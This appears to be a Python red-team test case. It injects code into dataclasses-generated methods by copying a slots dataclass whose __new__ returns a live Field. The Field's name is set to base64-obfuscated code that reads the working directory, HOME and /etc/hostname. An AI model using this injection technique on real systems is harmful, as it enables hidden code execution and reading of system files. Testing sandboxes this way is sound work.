# family: red team, round 52a (copy.copy of a slots dataclass whose inherited __new__, from a plain base, returns a live Field: copy sets slot "name" on it)
import base64
import copy
import dataclasses

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


class Base:
    __slots__ = ()
    made = []

    def __new__(cls, *args):
        if Base.made:
            return dataclasses.fields(A)[0]
        Base.made.append(1)
        return object.__new__(cls)


@dataclasses.dataclass(slots=True)
class Holder(Base):
    name: str


def main():
    copy.copy(Holder(base64.b64decode(CODE).decode()))

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
